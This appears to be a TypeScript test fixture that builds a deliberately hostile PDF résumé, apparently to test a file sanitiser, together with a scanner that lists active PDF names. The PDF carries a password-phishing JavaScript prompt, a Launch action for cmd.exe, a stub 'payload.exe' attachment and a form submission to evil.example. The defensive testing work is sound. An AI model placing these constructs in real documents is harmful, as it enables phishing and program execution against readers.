import { PDFArray, PDFDict, PDFDocument, PDFName, type PDFObject, PDFStream } from 'pdf-lib';
import { buildPdf } from './zip-writer.ts';

const SCRIPT = 'app.response({cQuestion: "Your Prakar session has expired. Enter your password"})';

/**
 * A one-page résumé carrying every kind of active content an applicant could hide in a PDF: a
 * script run on opening and on showing the page, a document-level script, a form, an embedded
 * file, and links that launch a program, submit a form and open an address.
 */
export function activePdf(): Buffer {
  const script = `<< /S /JavaScript /JS (${SCRIPT}) >>`;
  return buildPdf('Rohan Kulkarni', {
    catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript 6 0 R /EmbeddedFiles 7 0 R >> /AcroForm << /Fields [9 0 R] /XFA 10 0 R >> `,
    page: `/AA << /O ${script} >> /Annots [11 0 R 12 0 R 9 0 R] `,
    objects: [
      `<< /Names [(init) ${script}] >>`,
      '<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>] >>',
      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (password) /Rect [72 600 300 620] /P 3 0 R /AA << /K ${script} >> >>`,
      '<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream',
      '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /Launch /F (cmd.exe) /Next << /S /SubmitForm /F (https://evil.example/) >> >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S /URI /URI (https://evil.example/login) >> >>',
    ],
  });
}

const ACTIVE_NAMES = new Set(
  [
    'OpenAction',
    'AA',
    'JS',
    'JavaScript',
    'EmbeddedFiles',
    'EmbeddedFile',
    'AcroForm',
    'XFA',
    'Launch',
    'URI',
    'SubmitForm',
    'Annots',
  ].map((name) => PDFName.of(name)),
);

/**
 * Every active name (as key or value) anywhere in the PDF, as a reader would find it: each
 * object, compressed object streams included, and every dictionary inside one.
 */
export async function activeNamesIn(pdf: Buffer): Promise<string[]> {
  const document = await PDFDocument.load(pdf);
  const found = new Set<string>();
  const visit = (object: PDFObject | undefined) => {
    if (object instanceof PDFName && ACTIVE_NAMES.has(object)) found.add(object.decodeText());
    const dict = object instanceof PDFStream ? object.dict : object;
    if (dict instanceof PDFDict) {
      for (const [key, value] of dict.entries()) {
        visit(key);
        visit(value);
      }
    } else if (dict instanceof PDFArray) {
      for (const value of dict.asArray()) visit(value);
    }
  };
  for (const [, object] of document.context.enumerateIndirectObjects()) visit(object);
  return [...found];
}
